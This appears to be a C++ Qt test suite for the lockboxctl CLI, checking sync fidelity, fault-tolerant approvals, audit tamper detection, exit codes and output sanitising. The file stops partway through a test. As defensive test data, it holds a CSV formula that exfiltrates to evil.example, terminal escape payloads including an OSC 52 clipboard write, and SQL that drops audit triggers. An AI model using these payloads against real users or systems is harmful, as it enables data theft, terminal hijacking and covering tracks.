// lockboxctl as scripts use it: a child process against a lockbox-sim child, a token in an
// environment variable and a temporary profile. The cache matches the simulator field for field,
// decisions reach it once each under faults, the audit trail catches tampering, every documented
// exit code comes when it should, a decision made offline waits in the queue, and server text
// cannot inject formulas into CSV or escape sequences into a terminal.

#include "clitestkit.h"

#include "support/cannedserver.h"
#include "support/sqlitefile.h"

#include <QDir>
#include <QFile>
#include <QJsonArray>
#include <QRegularExpression>
#include <QSet>
#include <QSettings>
#include <QTemporaryDir>
#include <QTest>

#include <future>

using namespace Qt::StringLiterals;
using lockbox::test::Ctl;
using lockbox::test::CtlResult;
using lockbox::test::HttpClient;
using lockbox::test::HttpResult;
using lockbox::test::SimProcess;

namespace {

const QStringList kSimArguments = {
    u"--seed"_s,
    u"3"_s,
    u"--subscriptions"_s,
    u"3"_s,
    u"--requests"_s,
    u"200"_s,
    u"--start-time"_s,
    u"2026-11-02T09:30:00Z"_s,
    u"--transition-ms"_s,
    u"200"_s,
    u"--hang-ms"_s,
    u"3000"_s,
    u"--device-code-interval"_s,
    u"1"_s,
};

const QSet<QString> kListKeys = {
    u"requestId"_s,          u"subscriptionId"_s, u"status"_s,      u"justification"_s,    u"createdDateTime"_s,
    u"expirationDateTime"_s, u"duration"_s,       u"resourceIds"_s, u"resourceType"_s,     u"supportRequest"_s,
    u"supportCaseUrl"_s,     u"workItemSource"_s, u"accessLevel"_s, u"approvedDateTime"_s, u"approvalTimeSource"_s,
};

// The simulator's JSON of a request, reduced to lockboxctl's documented list fields, with
// timestamps as UTC milliseconds.
QJsonObject expectedListItem(const QJsonObject &api)
{
    const QJsonObject p = api.value(u"properties").toObject();
    QJsonObject o;
    for (const char *key :
         {"requestId", "subscriptionId", "status", "justification", "resourceType", "supportRequest", "supportCaseUrl"})
        o.insert(QLatin1StringView(key), p.value(QLatin1StringView(key)).toString());
    o.insert(u"createdDateTime"_s, lockbox::test::isoToMs(p.value(u"createdDateTime").toString()));
    o.insert(u"expirationDateTime"_s, lockbox::test::isoToMs(p.value(u"expirationDateTime").toString()));
    const QJsonValue duration = p.value(u"duration");
    o.insert(u"duration"_s, duration.isDouble() ? QString::number(duration.toInt()) : duration.toString());
    QJsonArray ids;
    if (p.contains(u"requestedResourceIds")) {
        ids = p.value(u"requestedResourceIds").toArray();
    } else {
        for (const QString &id : p.value(u"resourceIds").toString().split(u',', Qt::SkipEmptyParts))
            ids.append(id);
    }
    o.insert(u"resourceIds"_s, ids);
    o.insert(u"workItemSource"_s,
             p.contains(u"workItemSource") ? p.value(u"workItemSource") : p.value(u"workitemsource"));
    o.insert(u"accessLevel"_s, p.contains(u"accessLevel") ? p.value(u"accessLevel") : QJsonValue(QJsonValue::Null));
    return o;
}

// lockboxctl's item in the same terms.
QJsonObject normalizedListItem(const QJsonObject &item)
{
    QJsonObject o = item;
    o.remove(u"queuedDecision"_s);
    o.remove(u"approvedDateTime"_s); // the profile's own knowledge, not the server's
    o.remove(u"approvalTimeSource"_s);
    o.insert(u"createdDateTime"_s, lockbox::test::isoToMs(item.value(u"createdDateTime").toString()));
    o.insert(u"expirationDateTime"_s, lockbox::test::isoToMs(item.value(u"expirationDateTime").toString()));
    return o;
}

bool decisionLeadsTo(const QString &verdict, const QString &status)
{
    if (verdict == u"Approve")
        return status == u"Approving" || status == u"Approved";
    return status == u"Denying" || status == u"Denied";
}

} // namespace

class TestLockboxctl final : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void initTestCase();
    void cleanupTestCase();

    void syncThenListShowsEveryRequestAsTheSimulatorHolds();
    void globalOptionsAfterTheCommand();
    void subscriptionsAsJson();
    void approveAndDenyReachTheSimulatorOnceUnderFaults();
    void auditVerifyDetectsTampering_data();
    void auditVerifyDetectsTampering();
    void csvParsesAndNeutralisesFormulas();
    void terminalEscapesNeverReachTheTable();
    void hostileErrorsNeverSteerTheTerminal();
    void exitCodes_data();
    void exitCodes();
    void approvingWhatIsNoLongerPendingIsExit4();
    void serverDownQueuesTheDecisionUntilTheNextSync();
    void aQueuedDecisionOnAChangedRequestIsNotSent();
    void forbiddenIsExit3();
    void plainHttpEndpointRememberedEarlierIsRefused();
    void anEndpointNotMicrosoftsIsNamedOnEveryRun();
    void syncImportsTheActivityLogInOneLine();
    void syncOnADamagedProfileFailsAndWritesNothing();
    void germanMessagesEnglishMachineOutput();
    void auditListsByEventTimeOldestFirst();                  // last: it adds a request the earlier tests would count
    void approvedLongAfterItWasAskedIsActiveForItsDuration(); // adds a request too
    void showMarksACaseLinkOutsideTheAzurePortal();           // adds requests too

private:
    QStringList pendingInCache(int count);
    QString subscriptionOf(const QString &requestId);
    QString createRequest(const QJsonObject &fields);

    SimProcess m_sim;
    QTemporaryDir m_dir;
    std::unique_ptr<Ctl> m_ctl;
    QStringList m_used; // requests decided by earlier tests
};

void TestLockboxctl::initTestCase()
{
    QVERIFY(m_dir.isValid());
    QString error;
    QVERIFY2(m_sim.start(kSimArguments, &error), qPrintable(error));
    m_ctl = std::make_unique<Ctl>(m_sim.url(), QDir(m_dir.path()).filePath(u"profile"_s));
}

void TestLockboxctl::cleanupTestCase()
{
    m_sim.stop();
}

QStringList TestLockboxctl::pendingInCache(int count)
{
    // Tests run one by one (-functions) find the profile empty.
    if (!QFile::exists(m_ctl->databasePath()))
        m_ctl->run({u"sync"_s});
    const CtlResult r = m_ctl->run({u"list"_s, u"--status"_s, u"pending"_s, u"--format"_s, u"json"_s});
    QStringList ids;
    for (const QJsonValue &v : r.json().array()) {
        const QString id = v.toObject().value(u"requestId").toString();
        if (!m_used.contains(id) && ids.size() < count)
            ids.append(id);
    }
    m_used += ids;
    return ids;
}

QString TestLockboxctl::subscriptionOf(const QString &requestId)
{
    const CtlResult r = m_ctl->run({u"show"_s, requestId, u"--format"_s, u"json"_s});
    return r.json().object().value(u"subscriptionId").toString();
}

QString TestLockboxctl::createRequest(const QJsonObject &fields)
{
    const HttpResult r = m_sim.control("POST", u"/_sim/requests"_s, fields);
    return r.object().value(u"properties").toObject().value(u"requestId").toString();
}

void TestLockboxctl::syncThenListShowsEveryRequestAsTheSimulatorHolds()
{
    const CtlResult sync = m_ctl->run({u"sync"_s});
    QVERIFY2(sync.code == 0, qPrintable(sync.describe()));
    // One line a subscription, saying what changed.
    const QStringList subs = m_sim.subscriptionIds();
    QCOMPARE(subs.size(), 3);
    for (const QString &sub : subs)
        QVERIFY2(sync.out.contains(sub.toUtf8()), sync.out.constData());
    QVERIFY2(sync.out.contains("200 new"), sync.out.constData());

    const CtlResult list = m_ctl->run({u"list"_s, u"--status"_s, u"all"_s, u"--format"_s, u"json"_s});
    QVERIFY2(list.code == 0, qPrintable(list.describe()));
    QVERIFY(list.json().isArray());
    const QJsonArray items = list.json().array();

    QHash<QString, QJsonObject> expected;
    for (const QString &sub : subs) {
        for (const QJsonValue &v : m_sim.requests(sub)) {
            const QJsonObject e = expectedListItem(v.toObject());
            expected.insert(e.value(u"requestId").toString(), e);
        }
    }
    QCOMPARE(expected.size(), 600);
    QCOMPARE(items.size(), 600);
    int arrays = 0;
    for (const QJsonValue &v : items) {
        const QJsonObject item = v.toObject();
        const QStringList keys = item.keys();
        QCOMPARE(QSet<QString>(keys.cbegin(), keys.cend()), kListKeys);
        const QString id = item.value(u"requestId").toString();
        QVERIFY2(expected.contains(id), qPrintable(id));
        // ISO 8601 UTC with milliseconds.
        QVERIFY2(item.value(u"createdDateTime").toString().endsWith(u'Z'), qPrintable(id));
        const QJsonObject mine = normalizedListItem(item);
        const QJsonObject theirs = expected.value(id);
        for (auto it = theirs.begin(); it != theirs.end(); ++it) {
            QVERIFY2(
                mine.value(it.key()) == it.value(),
                qPrintable(u"%1 %2: lockboxctl %3, simulator %4"_s.arg(
                    id, it.key(),
                    QString::fromUtf8(QJsonDocument(QJsonArray {mine.value(it.key())}).toJson(QJsonDocument::Compact)),
                    QString::fromUtf8(QJsonDocument(QJsonArray {it.value()}).toJson(QJsonDocument::Compact)))));
        }
        arrays += item.value(u"resourceIds").toArray().size() > 1 ? 1 : 0;
        expected.remove(id);
    }
    QVERIFY(expected.isEmpty());
    QVERIFY(arrays > 0); // some requests name several resources

    // `show` gives the duration with its unit.
    const QJsonObject first = items.first().toObject();
    const CtlResult shown = m_ctl->run({u"show"_s, first.value(u"requestId").toString()});
    QVERIFY2(shown.code == 0, qPrintable(shown.describe()));
    const QString durationLine = u"Duration:       %1 h\n"_s.arg(first.value(u"duration").toString());
    QVERIFY2(QString::fromUtf8(shown.out).contains(durationLine), qPrintable(shown.describe()));

    // Nothing changed, so a second sync writes nothing and says so.
    const CtlResult again = m_ctl->run({u"sync"_s, u"--full"_s, u"--format"_s, u"json"_s});
    QVERIFY2(again.code == 0, qPrintable(again.describe()));
    for (const QJsonValue &v : again.json().array()) {
        const QJsonObject o = v.toObject();
        QCOMPARE(o.value(u"added"_s).toInt(), 0);
        QCOMPARE(o.value(u"changed"_s).toInt(), 0);
        QCOMPARE(o.value(u"removed"_s).toInt(), 0);
        QCOMPARE(o.value(u"unchanged"_s).toInt(), 200);
    }
    QCOMPARE(again.json().array().size(), 3);
}

void TestLockboxctl::globalOptionsAfterTheCommand()
{
    const CtlResult list = m_ctl->runRaw(
        {u"list"_s, u"--profile"_s, m_ctl->profileDir(), u"--format"_s, u"json"_s, u"--status"_s, u"all"_s});
    QVERIFY2(list.code == 0, qPrintable(list.describe()));
    QCOMPARE(list.json().array().size(), 600);
    // Mixed: some before, some after, with = too.
    const CtlResult sync =
        m_ctl->runRaw({u"--profile"_s, m_ctl->profileDir(), u"sync"_s, u"--endpoint="_s + m_sim.url().toString(),
                       u"--format"_s, u"json"_s, u"--token-env"_s, u"LOCKBOX_TOKEN"_s});
    QVERIFY2(sync.code == 0, qPrintable(sync.describe()));
    QCOMPARE(sync.json().array().size(), 3);
}

void TestLockboxctl::subscriptionsAsJson()
{
    const CtlResult r = m_ctl->run({u"subscriptions"_s, u"--format"_s, u"json"_s});
    QVERIFY2(r.code == 0, qPrintable(r.describe()));
    const QJsonArray mine = r.json().array();
    const QJsonArray theirs = m_sim.subscriptions();
    QCOMPARE(mine.size(), theirs.size());
    QCOMPARE(mine.size(), 3);
    for (qsizetype i = 0; i < mine.size(); ++i) {
        const QJsonObject m = mine.at(i).toObject();
        const QJsonObject t = theirs.at(i).toObject();
        const QStringList keys = m.keys();
        QCOMPARE(QSet<QString>(keys.cbegin(), keys.cend()),
                 QSet<QString>({u"subscriptionId"_s, u"displayName"_s, u"state"_s, u"tenantId"_s}));
        for (const QString &key : keys) {
            QVERIFY(!m.value(key).toString().isEmpty());
            QCOMPARE(m.value(key).toString(), t.value(key).toString());
        }
    }
}

void TestLockboxctl::approveAndDenyReachTheSimulatorOnceUnderFaults()
{
    const QStringList ids = pendingInCache(10);
    QCOMPARE(ids.size(), 10);
    m_sim.control("POST", u"/_sim/counters/reset"_s);
    m_sim.setFaults(0.3);
    QHash<QString, QString> verdicts;
    int queued = 0;
    for (qsizetype i = 0; i < ids.size(); ++i) {
        const bool approve = i % 2 == 0;
        verdicts.insert(ids.at(i), approve ? u"Approve"_s : u"Deny"_s);
        const CtlResult r = approve
            ? m_ctl->run({u"approve"_s, ids.at(i), u"--timeout"_s, u"2"_s})
            : m_ctl->run({u"deny"_s, ids.at(i), u"--reason"_s, u"Scope too wide"_s, u"--timeout"_s, u"2"_s});
        // Accepted (0), or left queued after every attempt (5, saying so).
        QVERIFY2(r.code == 0 || r.code == 5, qPrintable(r.describe()));
        if (r.code == 5) {
            QVERIFY2(r.err.contains("queued"), r.err.constData());
            ++queued;
        } else {
            QVERIFY2(r.out.contains("accepted"), r.out.constData());
        }
    }
    m_sim.setFaults(0);
    // Whatever is still queued goes out with the next sync.
    const CtlResult sync = m_ctl->run({u"sync"_s});
    QVERIFY2(sync.code == 0, qPrintable(sync.describe()));
    const CtlResult queue = m_ctl->run({u"queue"_s, u"--format"_s, u"json"_s});
    QVERIFY2(queue.code == 0, qPrintable(queue.describe()));
    QCOMPARE(queue.json().array().size(), 0);

    const QJsonObject counters = m_sim.counters();
    const QJsonObject applied = counters.value(u"decisionsApplied").toObject();
    QCOMPARE(applied.size(), 10);
    for (const QString &id : ids) {
        QVERIFY2(applied.value(id).toInt() == 1,
                 qPrintable(id + u" applied "_s + QString::number(applied.value(id).toInt())));
        const QString status =
            m_sim.request(subscriptionOf(id), id).value(u"properties").toObject().value(u"status").toString();
        QVERIFY2(decisionLeadsTo(verdicts.value(id), status), qPrintable(id + u": "_s + status));
    }
    qInfo("10 decisions at 30 %% faults: %d posts, 10 applied once, %d left queued for the sync, faults %s",
          counters.value(u"decisionPosts").toInt(), queued,
          QJsonDocument(counters.value(u"faultsInjected").toObject()).toJson(QJsonDocument::Compact).constData());
}

void TestLockboxctl::auditVerifyDetectsTampering_data()
{
    QTest::addColumn<QStringList>("attack");
    QTest::addColumn<int>("firstBad");
    QTest::newRow("edit") << QStringList {u"DROP TRIGGER audit_no_update"_s,
                                          u"UPDATE audit SET reason = 'all fine' WHERE seq = 3"_s}
                          << 3;
    QTest::newRow("delete") << QStringList {u"DROP TRIGGER audit_no_delete"_s, u"DELETE FROM audit WHERE seq = 2"_s}
                            << 2;
    QTest::newRow("swap") << QStringList {u"DROP TRIGGER audit_no_update"_s,
                                          u"UPDATE audit SET seq = -1 WHERE seq = 4"_s,
                                          u"UPDATE audit SET seq = 4 WHERE seq = 5"_s,
                                          u"UPDATE audit SET seq = 5 WHERE seq = -1"_s}
                          << 4;
}

void TestLockboxctl::auditVerifyDetectsTampering()
{
    QFETCH(QStringList, attack);
    QFETCH(int, firstBad);
    const CtlResult ok = m_ctl->run({u"audit"_s, u"--verify"_s});
    QVERIFY2(ok.code == 0, qPrintable(ok.describe()));
    const CtlResult records = m_ctl->run({u"audit"_s, u"--format"_s, u"json"_s});
    QVERIFY(records.json().array().size() >= 20); // queued, sending, acknowledged… of ten decisions

    // The attacker works on a copy of the profile: the original stays intact for later tests.
    QTemporaryDir copyDir;
    QVERIFY(copyDir.isValid());
    for (const QString &suffix : {u""_s, u"-wal"_s, u"-shm"_s}) {
        const QString from = m_ctl->databasePath() + suffix;
        if (QFile::exists(from))
            QVERIFY(QFile::copy(from, QDir(copyDir.path()).filePath(u"lockbox.sqlite"_s + suffix)));
    }
    const Ctl copy(m_sim.url(), copyDir.path());
    QCOMPARE(copy.run({u"audit"_s, u"--verify"_s}).code, 0);
    const QString sqlError = lockbox::test::sqlOnFile(copy.databasePath(), attack);
    QVERIFY2(sqlError.isEmpty(), qPrintable(sqlError));

    const CtlResult bad = copy.run({u"audit"_s, u"--verify"_s});
    QVERIFY2(bad.code == 6, qPrintable(bad.describe()));
    // The message names the record.
    QVERIFY2(QString::fromUtf8(bad.err + bad.out).contains(QRegularExpression(u"\\b%1\\b"_s.arg(firstBad))),
             qPrintable(bad.describe()));
    const CtlResult json = copy.run({u"audit"_s, u"--verify"_s, u"--format"_s, u"json"_s});
    QCOMPARE(json.code, 6);
    QCOMPARE(json.json().object().value(u"ok").toBool(true), false);
    QCOMPARE(json.json().object().value(u"firstBadSequence").toInt(), firstBad);
}

void TestLockboxctl::csvParsesAndNeutralisesFormulas()
{
    const QString sub = m_sim.subscriptionIds().first();
    const QString formula = u"=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"_s;
    const QString id = createRequest({{u"subscriptionId"_s, sub}, {u"justification"_s, formula}});
    const QString awkward = u"Line one, with a comma\nand \"quotes\"; -2+3"_s;
    const QString id2 = createRequest({{u"subscriptionId"_s, sub}, {u"justification"_s, awkward}});
    // A spreadsheet whose list separator is ';' (German, French) splits this at the ';' unless
    // the field is quoted; a leading tab or carriage return hides a formula from a naive check.
    const QString semicolon = u"note;=HYPERLINK(A1)"_s;
    const QString id3 = createRequest({{u"subscriptionId"_s, sub}, {u"justification"_s, semicolon}});
    const QString tab = u"\t=1+1"_s;
    const QString id4 = createRequest({{u"subscriptionId"_s, sub}, {u"justification"_s, tab}});
    const QString carriageReturn = u"\r@SUM(A1)"_s;
    const QString id5 = createRequest({{u"subscriptionId"_s, sub}, {u"justification"_s, carriageReturn}});
    QVERIFY(!id.isEmpty() && !id2.isEmpty() && !id3.isEmpty() && !id4.isEmpty() && !id5.isEmpty());
    QCOMPARE(m_ctl->run({u"sync"_s}).code, 0);

    const CtlResult r = m_ctl->run({u"list"_s, u"--status"_s, u"all"_s, u"--format"_s, u"csv"_s});
    QVERIFY2(r.code == 0, qPrintable(r.describe()));
    const QList<QStringList> rows = lockbox::test::parseCsv(QString::fromUtf8(r.out));
    QCOMPARE(rows.size(), 1 + 605);
    const QStringList header = rows.first();
    const qsizetype idColumn = header.indexOf(u"id"_s);
    const qsizetype justColumn = header.indexOf(u"justification"_s);
    QVERIFY(idColumn >= 0 && justColumn >= 0);
    QHash<QString, QString> justifications;
    for (const QStringList &row : rows.mid(1)) {
        QCOMPARE(row.size(), header.size());
        justifications.insert(row.at(idColumn), row.at(justColumn));
    }
    // A spreadsheet sees text, not a formula; the rest of the text is intact.
    QCOMPARE(justifications.value(id), u"'"_s + formula);
    QCOMPARE(justifications.value(id2), awkward);
    QCOMPARE(justifications.value(id3), semicolon);
    QCOMPARE(justifications.value(id4), u"'"_s + tab);
    QCOMPARE(justifications.value(id5), u"'"_s + carriageReturn);
    for (auto it = justifications.cbegin(); it != justifications.cend(); ++it) {
        const QString &j = it.value();
        QVERIFY2(j.isEmpty() || !QStringView(u"=+-@").contains(j.front()), qPrintable(it.key() + u": "_s + j));
    }
    // Quoted, so that a spreadsheet whose list separator is ';' keeps it in one cell.
    QVERIFY(r.out.contains(",\"note;=HYPERLINK(A1)\""));
}

void TestLockboxctl::terminalEscapesNeverReachTheTable()
{
    const QString sub = m_sim.subscriptionIds().last();
    const QString hostile = u"\x1b[2J\x1b]0;owned\x07Please approve\r\x1b[1A quickly\u009b31m"_s;
    const QString id = createRequest({{u"subscriptionId"_s, sub}, {u"justification"_s, hostile}});
    QVERIFY(!id.isEmpty());
    QCOMPARE(m_ctl->run({u"sync"_s}).code, 0);

    for (const QStringList &args :
         {QStringList {u"list"_s}, QStringList {u"list"_s, u"--status"_s, u"all"_s}, QStringList {u"show"_s, id}}) {
        const CtlResult r = m_ctl->run(args);
        QVERIFY2(r.code == 0, qPrintable(r.describe()));
        QVERIFY2(r.out.contains(id.toUtf8()), qPrintable(args.join(u' ')));
        QVERIFY2(r.out.contains("Please approve"), qPrintable(args.join(u' ')));
        for (const char c : {'\x1b', '\x07', '\r'})
            QVERIFY2(!r.out.contains(c), qPrintable(args.join(u' ') + u": a control character reached the terminal"_s));
        QVERIFY(!QString::fromUtf8(r.out).contains(QChar(0x9b)));
    }
    // JSON keeps the text exactly, escaped.
    const CtlResult json = m_ctl->run({u"show"_s, id, u"--format"_s, u"json"_s});
    QCOMPARE(json.json().object().value(u"justification").toString(), hostile);
    QVERIFY(!json.out.contains('\x1b'));
}

void TestLockboxctl::hostileErrorsNeverSteerTheTerminal()
{
    // An endpoint that answers every call with an ARM error whose code writes the clipboard
    // (OSC 52) and whose message reverses the text around it, clears the screen and hides words.
    lockbox::test::CannedServer server;
    QVERIFY(server.listen());
    const QByteArray body = R"({"error":{"code":"\u001b]52;c;ZWNobyBvd25lZA==\u0007Denied",)"
                            R"("message":"Approve \u202Eyas \u001b[2J\u009b31m\u200Bnow\u2066 \uFEFFplease"}})";
    server.setFallback(
        {lockbox::test::CannedServer::response(400, body), lockbox::test::CannedServer::Action::Respond});
    QTemporaryDir dir;
    QVERIFY(dir.isValid());
    const Ctl ctl(server.baseUrl(), dir.path());
    const QString sub = u"00000000-0000-4000-8000-0000000000aa"_s;
    for (const QStringList &args : {QStringList {u"sync"_s, u"--subscription"_s, sub},
                                    QStringList {u"--verbose"_s, u"sync"_s, u"--subscription"_s, sub},
                                    QStringList {u"--format"_s, u"json"_s, u"sync"_s, u"--subscription"_s, sub},
                                    QStringList {u"subscriptions"_s}}) {
        // lockboxctl blocks until it ends: run it beside the event loop that serves its calls.
        auto result = std::async(std::launch::async, [&ctl, args] { return ctl.run(args, 60000); });
        QVERIFY(QTest::qWaitFor(
            [&result] { return result.wait_for(std::chrono::milliseconds(0)) == std::future_status::ready; }, 90000));
        const CtlResult r = result.get();
        const QString what = args.join(u' ');
        QVERIFY2(r.code > 0, qPrintable(what + u": "_s + r.describe()));
        const QByteArray all = r.out + r.err;
        QVERIFY2(all.contains("Denied") || all.contains("Approve"), qPrintable(what + u": "_s + r.describe()));
        for (const char c : {'\x1b', '\x07', '\r'})
            QVERIFY2(!all.contains(c), qPrintable(what + u": a control character reached the terminal"_s));
        const QString text = QString::fromUtf8(all);
        for (const QChar c : text) {
            const bool hidden = c.category() == QChar::Other_Format || (c.unicode() >= 0x80 && c.unicode() < 0xA0);
            QVERIFY2(!hidden,
                     qPrintable(what + u": U+%1 reached the terminal"_s.arg(uint(c.unicode()), 4, 16, QChar(u'0'))));
        }
        // Shown, not dropped: the reader sees that someone tried.
        QVERIFY2(text.contains(u"\\u202E"_s) || text.contains(u"\\u001B"_s), qPrintable(what + u": "_s + text));
    }
}

void TestLockboxctl::exitCodes_data()
{
    QTest::addColumn<QStringList>("arguments"); // {URL}, {PROFILE} and {FRESH} are replaced
    QTest::addColumn<QByteArray>("token");
    QTest::addColumn<int>("code");
    QTest::addColumn<QString>("message");

    const QString unknownId = u"00000000-0000-4000-8000-000000000404"_s;
    QTest::newRow("no token configured") << QStringList {u"--endpoint"_s, u"{URL}"_s, u"--profile"_s, u"{FRESH}"_s,
                                                         u"sync"_s}
                                         << QByteArray("T") << 2 << u"--token-env"_s;
    QTest::newRow("token variable unset") << QStringList {
        u"--endpoint"_s, u"{URL}"_s, u"--profile"_s, u"{FRESH}"_s, u"--token-env"_s, u"LOCKBOX_NO_SUCH_VARIABLE"_s,
        u"sync"_s} << QByteArray("T") << 2 << u"LOCKBOX_NO_SUCH_VARIABLE"_s;
    QTest::newRow("token rejected (401)")
        << QStringList {u"--endpoint"_s,  u"{URL}"_s,         u"--profile"_s, u"{PROFILE}"_s,
                        u"--token-env"_s, u"LOCKBOX_TOKEN"_s, u"sync"_s}
        << QByteArray("not-the-token") << 2 << QString();
    QTest::newRow("unknown command") << QStringList {u"--profile"_s, u"{FRESH}"_s, u"frobnicate"_s} << QByteArray("T")
                                     << 1 << u"frobnicate"_s;
    QTest::newRow("unknown option") << QStringList {u"--profile"_s, u"{PROFILE}"_s, u"list"_s, u"--colour"_s}
                                    << QByteArray("T") << 1 << u"--colour"_s;
    QTest::newRow("bad format") << QStringList {u"--profile"_s, u"{PROFILE}"_s, u"--format"_s, u"xml"_s, u"list"_s}
                                << QByteArray("T") << 1 << u"xml"_s;
    QTest::newRow("deny without --reason")
        << QStringList {u"--profile"_s, u"{PROFILE}"_s, u"deny"_s, unknownId} << QByteArray("T") << 1 << u"--reason"_s;
    QTest::newRow("show of an unknown id")
        << QStringList {u"--profile"_s, u"{PROFILE}"_s, u"show"_s, unknownId} << QByteArray("T") << 4 << unknownId;
    QTest::newRow("approve of an unknown id")
        << QStringList {u"--profile"_s, u"{PROFILE}"_s, u"--token-env"_s, u"LOCKBOX_TOKEN"_s, u"approve"_s, unknownId}
        << QByteArray("T") << 4 << unknownId;
    QTest::newRow("withdraw with nothing queued")
        << QStringList {u"--profile"_s, u"{PROFILE}"_s, u"queue"_s, u"withdraw"_s, unknownId} << QByteArray("T") << 4
        << unknownId;
    QTest::newRow("concurrency out of range")
        << QStringList {u"--profile"_s, u"{PROFILE}"_s, u"--concurrency"_s, u"0"_s, u"sync"_s} << QByteArray("T") << 1
        << u"--concurrency"_s;
    QTest::newRow("concurrency one at a time")
        << QStringList {u"--profile"_s,     u"{PROFILE}"_s, u"--token-env"_s, u"LOCKBOX_TOKEN"_s,
                        u"--concurrency"_s, u"1"_s,         u"sync"_s}
        << QByteArray(SimProcess::kToken) << 0 << QString();
    QTest::newRow("help") << QStringList {u"help"_s, u"approve"_s} << QByteArray("T") << 0 << QString();
    // A typo is no empty list: it says which statuses there are.
    // Nothing listens on port 9: the message says where the console tried.
    QTest::newRow("endpoint refuses") << QStringList {u"--endpoint"_s, u"http://127.0.0.1:9"_s, u"--profile"_s,
                                                      u"{FRESH}"_s,    u"--token-env"_s,        u"LOCKBOX_TOKEN"_s,
                                                      u"sync"_s}
                                      << QByteArray("T") << 5 << u"Connection refused at http://127.0.0.1:9"_s;
    // Plain http to another machine: refused before anything is remembered, saying what is allowed.
    QTest::newRow("plain http to another machine")
        << QStringList {u"--endpoint"_s,  u"http://lockbox.example.com:8080/"_s,
                        u"--profile"_s,   u"{FRESH}"_s,
                        u"--token-env"_s, u"LOCKBOX_TOKEN"_s,
                        u"sync"_s}
        << QByteArray("T") << 1
        << u"--endpoint http://lockbox.example.com:8080: plain http is only allowed to this machine (127.0.0.1, ::1 "
           "or localhost), where a simulator runs; use https:// for any other host"_s;
    QTest::newRow("unknown status") << QStringList {u"--profile"_s, u"{PROFILE}"_s, u"list"_s, u"--status"_s,
                                                    u"pendng"_s}
                                    << QByteArray("T") << 1 << u"'pendng': use pending, active, history, all"_s;
    QTest::newRow("an Azure status in any case")
        << QStringList {u"--profile"_s, u"{PROFILE}"_s, u"list"_s, u"--status"_s, u"approved"_s} << QByteArray("T") << 0
        << QString();
}

void TestLockboxctl::exitCodes()
{
    QFETCH(QStringList, arguments);
    QFETCH(QByteArray, token);
    QFETCH(int, code);
    QFETCH(QString, message);
    QTemporaryDir fresh;
    for (QString &a : arguments) {
        a.replace(u"{URL}"_s, m_sim.url().toString());
        a.replace(u"{PROFILE}"_s, m_ctl->profileDir());
        a.replace(u"{FRESH}"_s, fresh.path());
    }
    Ctl ctl(m_sim.url(), m_ctl->profileDir(), token);
    const CtlResult r = ctl.runRaw(arguments);
    QVERIFY2(r.code == code, qPrintable(r.describe()));
    if (code != 0) {
        QVERIFY2(r.err.startsWith("lockboxctl: "), qPrintable(r.describe()));
        QVERIFY2(QString::fromUtf8(r.err).contains(message), qPrintable(r.describe()));
    }
}

void TestLockboxctl::approvingWhatIsNoLongerPendingIsExit4()
{
    // Pending in the cache, but someone else decided in the meantime.
    const QString id = pendingInCache(1).value(0);
    QVERIFY(!id.isEmpty());
    m_sim.control("POST", u"/_sim/requests/"_s + id + u"/status"_s,
                  {{u"status"_s, u"Denied"_s}, {u"by"_s, u"jordan.lee@contoso.example"_s}});
    CtlResult r = m_ctl->run({u"approve"_s, id});
    QVERIFY2(r.code == 4, qPrintable(r.describe()));
    QVERIFY2(r.err.contains("Denied"), qPrintable(r.describe()));
    QCOMPARE(m_sim.applied(id), 0);
    // The cache learnt the truth; approving again still says 4.
    const CtlResult shown = m_ctl->run({u"show"_s, id, u"--format"_s, u"json"_s});
    QCOMPARE(shown.json().object().value(u"status").toString(), u"Denied"_s);
    r = m_ctl->run({u"approve"_s, id});
    QVERIFY2(r.code == 4, qPrintable(r.describe()));
    QCOMPARE(m_sim.applied(id), 0);
}

void TestLockboxctl::serverDownQueuesTheDecisionUntilTheNextSync()
{
    // A simulator of its own, stopped and restarted at the same address.
    SimProcess sim;
    QString error;
    const QStringList arguments {u"--seed"_s,
                                 u"4"_s,
                                 u"--subscriptions"_s,
                                 u"1"_s,
                                 u"--requests"_s,
                                 u"20"_s,
                                 u"--pending-fraction"_s,
                                 u"0.5"_s,
                                 u"--start-time"_s,
                                 u"2026-11-02T09:30:00Z"_s};
    QVERIFY2(sim.start(arguments, &error), qPrintable(error));
    QTemporaryDir dir;
    const Ctl ctl(sim.url(), dir.path());
    QCOMPARE(ctl.run({u"sync"_s}).code, 0);
    QStringList pending;
    for (const QJsonValue &v : ctl.run({u"list"_s, u"--format"_s, u"json"_s}).json().array())
        pending.append(v.toObject().value(u"requestId").toString());
    QVERIFY(pending.size() >= 2);
    sim.stop();

    const CtlResult approve = ctl.run({u"approve"_s, pending.at(0), u"--reason"_s, u"offline"_s});
    QVERIFY2(approve.code == 5, qPrintable(approve.describe()));
    QVERIFY2(approve.err.contains("queued"), qPrintable(approve.describe()));
    const CtlResult deny = ctl.run({u"deny"_s, pending.at(1), u"--reason"_s, u"will withdraw"_s});
    QVERIFY2(deny.code == 5, qPrintable(deny.describe()));

    // The queue shows both; one is withdrawn before it is ever sent.
    CtlResult queue = ctl.run({u"queue"_s, u"--format"_s, u"json"_s});
    QCOMPARE(queue.code, 0);
    QCOMPARE(queue.json().array().size(), 2);
    QCOMPARE(queue.json().array().at(0).toObject().value(u"requestId").toString(), pending.at(0));
    QCOMPARE(queue.json().array().at(0).toObject().value(u"state").toString(), u"queued"_s);
    QCOMPARE(queue.json().array().at(0).toObject().value(u"verdict").toString(), u"Approve"_s);
    const CtlResult table = ctl.run({u"queue"_s});
    QVERIFY(table.out.contains(pending.at(0).toUtf8()));
    const CtlResult listed = ctl.run({u"show"_s, pending.at(0), u"--format"_s, u"json"_s});
    QCOMPARE(listed.json().object().value(u"queuedDecision").toObject().value(u"verdict").toString(), u"Approve"_s);
    const CtlResult withdraw = ctl.run({u"queue"_s, u"withdraw"_s, pending.at(1)});
    QVERIFY2(withdraw.code == 0, qPrintable(withdraw.describe()));
    queue = ctl.run({u"queue"_s, u"--format"_s, u"json"_s});
    QCOMPARE(queue.json().array().size(), 1);

    // Still down: sync fails with 5 and keeps the decision.
    const CtlResult failing = ctl.run({u"sync"_s});
    QVERIFY2(failing.code == 5, qPrintable(failing.describe()));
    QCOMPARE(ctl.run({u"queue"_s, u"--format"_s, u"json"_s}).json().array().size(), 1);

    QVERIFY2(sim.start(arguments, &error), qPrintable(error));
    const CtlResult sync = ctl.run({u"sync"_s});
    QVERIFY2(sync.code == 0, qPrintable(sync.describe()));
    QCOMPARE(sim.applied(pending.at(0)), 1);
